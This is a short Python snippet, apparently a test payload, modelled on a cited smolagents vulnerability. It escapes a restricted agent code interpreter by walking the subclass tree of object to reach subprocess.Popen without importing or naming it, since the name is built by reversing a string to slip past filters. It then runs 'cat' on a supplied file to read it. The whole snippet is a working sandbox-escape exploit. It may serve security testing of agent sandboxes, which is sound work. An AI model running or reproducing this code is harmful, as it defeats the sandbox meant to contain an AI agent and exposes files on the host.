# Tries: subprocess.Popen, found among all classes that there are, without an import and without its name in the text.
# Origin: the shape of CVE-2025-9959 (smolagents: dunder attributes).

import asyncio

wanted = "".join(reversed("nepoP"))
waiting, seen, found = [object], set(), []
while waiting:
    kind = waiting.pop()
    for child in type.__subclasses__(kind):
        if child not in seen:
            seen.add(child)
            waiting.append(child)
    if kind.__name__ == wanted:
        found.append(kind(["cat", input["file"]], stdout=-1).communicate())
found
